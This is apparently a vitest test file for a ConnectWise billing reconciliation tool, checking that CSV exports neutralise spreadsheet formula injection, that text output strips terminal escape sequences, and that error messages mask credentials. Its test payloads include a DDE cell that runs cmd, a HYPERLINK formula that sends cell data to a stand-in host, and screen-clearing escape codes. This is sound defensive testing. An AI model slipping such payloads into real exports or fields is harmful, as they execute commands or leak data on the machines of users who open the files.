import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { renderCsv as renderPanelCsv } from '../../../components/findings/exports';
import { httpError } from '../../../core/connectwise/http-errors';
import { csvCell, formatLinesCsv, neutraliseCsvCell } from '../../../core/ingest/csv-write';
import { invoicingReadiness } from '../../../core/invoicing';
import { renderReadiness } from '../../../core/invoicing/render';
import type { CwBundle, PlatformLine } from '../../../core/model';
import { reconcile } from '../../../core/reconcile';
import { renderMoneyCsv, renderReport } from '../../../core/report';
import { generateScenario } from '../../generator';
import { recon as reconCli } from '../cli/run';

/** What a spreadsheet would evaluate: a cell opening with a formula character that is not a number. */
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !PLAIN_NUMBER.test(cell);

function liveCells(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.trim(), { header: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat().filter(live);
}

const PAYLOADS = ["-1+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")', '+SUM(1,2)', '@SUM(A1)', '\t=1+1', '\r=1+1'];

/** A generated month whose Line IDs, organizations and agreement names carry formula payloads. */
function hostileScenario() {
  const s = generateScenario({ seed: 11, faults: 'all', organizations: 4 });
  const orgs = [...new Set(s.lines.map((l) => l.organization))];
  const orgPayload = new Map(orgs.map((o, i) => [o, `${PAYLOADS[i % PAYLOADS.length]!} ${o}`]));
  const lines: PlatformLine[] = s.lines.map((l, i) => ({
    ...l,
    lineId: `${PAYLOADS[i % PAYLOADS.length]!}#${i}`,
    organization: orgPayload.get(l.organization)!,
  }));
  const bundle: CwBundle = {
    ...s.bundle,
    companies: s.bundle.companies.map((c, i) => ({ ...c, name: `${PAYLOADS[(i + 2) % PAYLOADS.length]!}${c.name}` })),
    agreements: s.bundle.agreements.map((a, i) => ({ ...a, name: `${PAYLOADS[(i + 3) % PAYLOADS.length]!}${a.name}` })),
  };
  return { ...s, lines, bundle };
}

describe('CSV cells a spreadsheet would run', () => {
  it('neutralises every formula opener except plain numbers', () => {
    for (const p of PAYLOADS) expect(neutraliseCsvCell(p)).toBe(`'${p}`);
    for (const n of ['-12.5', '+3', '-0.5e3', '.25', '42']) expect(neutraliseCsvCell(n)).toBe(n);
    // The old rule ("starts with -digit") let this one through.
    expect(neutraliseCsvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('=a,b')).toBe(`"'=a,b"`);
    expect(csvCell(-7)).toBe('-7');
  });

  it('no writer leaves a live cell: findings, money, panel export, runs export, invoicing, lines', () => {
    const s = hostileScenario();
    const report = reconcile({ lines: s.lines, bundle: s.bundle, config: s.config, now: new Date('2026-12-01T00:00:00Z') });
    expect(report.findings.some((f) => PAYLOADS.some((p) => (f.lineId ?? '').startsWith(p)))).toBe(true);
    const names = {
      companies: Object.fromEntries(s.bundle.companies.map((c) => [String(c.id), c.name])),
      agreements: Object.fromEntries(s.bundle.agreements.map((a) => [String(a.id), { name: a.name, companyId: a.company.id }])),
    };
    const withNames = { ...report, names: { companies: names.companies, agreements: Object.fromEntries(s.bundle.agreements.map((a) => [a.id, a.name])) } };
    expect(liveCells(renderReport(report, 'csv'))).toEqual([]);
    expect(liveCells(renderMoneyCsv(withNames as typeof report))).toEqual([]);
    expect(liveCells(renderPanelCsv({ report, names }, new Map()))).toEqual([]);
    expect(liveCells(formatLinesCsv(s.lines))).toEqual([]);
    const readiness = invoicingReadiness({ lines: s.lines, bundle: s.bundle, config: s.config, thruDate: '2026-11-30' });
    expect(readiness.agreements.length).toBeGreaterThan(0);
    expect(liveCells(renderReadiness(readiness, 'csv'))).toEqual([]);
  });
});

describe('text and messages', () => {
  it('--format text carries no terminal control sequences from scraped values', () => {
    const s = generateScenario({ seed: 3, faults: 'all', organizations: 3 });
    const lines = s.lines.map((l, i) => ({ ...l, lineId: i % 2 ? `L${i}\u001b[2J\u001b]0;pwned\u0007` : `L${i}\u009b31m\u202e` }));
    const report = reconcile({ lines, bundle: s.bundle, config: s.config, now: new Date('2026-12-01T00:00:00Z') });
    const text = renderReport(report, 'text');
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
    expect(text).not.toContain('pwned');
    // Removed whole, not just their ESC byte; the ids themselves stay readable.
    expect(text).not.toContain('[2J');
    expect(text).toMatch(/Invoice line L\d+ /);
  });

  it('a server message echoing the Authorization header or the key is masked', () => {
    const key = 'PrivKey-9f8e7d6c';
    const auth = `Basic ${btoa(`acme+pub:${key}`)}`;
    const body = JSON.stringify({ code: 'Unauthorized', message: `Bad header Authorization: ${auth} (key ${key}) \u001b[2J` });
    const error = httpError(401, body, { path: '/system/info', site: 'https://api-na.myconnectwise.net', secrets: [auth, auth.slice(6), key] });
    expect(error.userMessage).toContain('ConnectWise said');
    expect(error.userMessage).not.toContain(key);
    expect(error.userMessage).not.toContain(btoa(`acme+pub:${key}`));
    expect(error.userMessage).not.toContain('\u001b');
    // Without being told the secrets, the header's shape alone is enough.
    const blind = httpError(400, body, { path: '/x', site: 'https://h' });
    expect(blind.userMessage).not.toContain(btoa(`acme+pub:${key}`));
  });
});

// The CLI end to end: the files a user would open in a spreadsheet.
const dir = mkdtempSync(join(tmpdir(), 'recon-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
const recon = (...args: string[]) => reconCli('reconcile', ...args);

describe('recon reconcile over formula payloads', () => {
  it('--format csv and --money-csv give no cell a spreadsheet would evaluate', { timeout: 300_000 }, async () => {
    const s = hostileScenario();
    // Written raw (not through formatLinesCsv, which would already neutralise them).
    const table = Papa.parse<string[]>(formatLinesCsv(s.lines).trim()).data;
    const header = table[0]!;
    const rows = s.lines.map((l, i) => header.map((h, j) => (h === 'Line ID' ? l.lineId : h === 'Organization' ? l.organization : table[i + 1]![j]!)));
    const linesFile = join(dir, 'lines.csv');
    writeFileSync(linesFile, Papa.unparse([header, ...rows], { newline: '\n' }));
    expect(readFileSync(linesFile, 'utf8')).toContain(PAYLOADS[0]);
    const cwFile = join(dir, 'cw.json');
    writeFileSync(cwFile, JSON.stringify(s.bundle));
    const configFile = join(dir, 'config.json');
    writeFileSync(configFile, JSON.stringify(s.config));
    const out = join(dir, 'findings.csv');
    const money = join(dir, 'money.csv');
    const r = await recon('--lines', linesFile, '--cw', cwFile, '--config', configFile, '--format', 'csv', '--out', out, '--money-csv', money);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const findings = readFileSync(out, 'utf8');
    expect(findings).toContain(`'${PAYLOADS[0]}`);
    expect(liveCells(findings)).toEqual([]);
    const moneyCsv = readFileSync(money, 'utf8');
    expect(moneyCsv.split('\n').length).toBeGreaterThan(2);
    expect(liveCells(moneyCsv)).toEqual([]);
  });
});
